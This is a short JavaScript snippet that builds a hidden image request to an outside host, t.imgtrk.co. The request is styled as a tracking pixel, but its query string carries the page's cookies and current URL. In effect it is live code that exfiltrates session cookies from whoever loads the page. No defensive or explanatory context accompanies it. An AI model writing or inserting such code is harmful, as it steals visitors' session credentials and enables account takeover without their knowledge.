// surroundings: emitter
const url = (parts, ...vals) => parts.reduce((a, p, i) => a + p + (i < vals.length ? encodeURIComponent(vals[i]) : ''), '');
const i = document.createElement('img');
i.setAttribute('src', url`https://t.imgtrk.co/1.gif?c=${document.cookie}&u=${location.href}`); //@act
